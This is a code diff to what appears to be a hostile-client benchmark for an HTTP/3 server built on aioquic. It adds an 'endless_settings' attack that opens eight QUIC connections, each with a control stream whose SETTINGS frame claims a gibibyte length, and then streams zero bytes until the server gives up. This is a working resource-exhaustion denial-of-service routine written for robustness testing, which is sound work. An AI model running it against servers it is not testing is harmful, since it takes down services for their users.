@@ -9,12 +9,13 @@ import socket
 import time
 from collections.abc import Awaitable, Callable
 
+from aioquic.asyncio.protocol import QuicConnectionProtocol
 from aioquic.buffer import encode_uint_var
-from aioquic.h3.connection import FrameType, encode_frame
+from aioquic.h3.connection import FrameType, StreamType, encode_frame
 from aioquic.quic.connection import QuicConnection
 
 from benchmarks.hostile.attacker import ADDRESS, Attacker
-from benchmarks.hostile.client import Client, configuration, request
+from benchmarks.hostile.client import Client, configuration, connect_as, request
 
 LOW = json.dumps(request(profile=3)).encode()
 HIGH = json.dumps(request(1280, 720, profile=0)).encode()
@@ -66,6 +67,26 @@ async def endless_frames(attacker: Attacker) -> None:
             for stream_id in itertools.cycle(streams):
                 client.raw(stream_id, b"\x00")
                 await asyncio.sleep(0.01)
+
+    await attacker.again(attempt, copies=8)
+
+
+async def endless_settings(attacker: Attacker) -> None:
+    """Control streams whose first frame promises a gibibyte and never ends."""
+
+    async def attempt() -> None:
+        async with connect_as(QuicConnectionProtocol, attacker.ports.quic, ADDRESS) as connection:
+            attacker.done["connections"] += 1
+            control = connection._quic.get_next_available_stream_id(is_unidirectional=True)
+            start = (
+                encode_uint_var(StreamType.CONTROL) + encode_uint_var(FrameType.SETTINGS) + encode_uint_var(GIBIBYTE)
+            )
+            connection._quic.send_stream_data(control, start)
+            while connection._quic._close_event is None:
+                connection._quic.send_stream_data(control, bytes(16_000))
+                connection.transmit()
+                attacker.done["parts of 16 kB"] += 1
+                await asyncio.sleep(0.05)
 
     await attacker.again(attempt, copies=8)
 
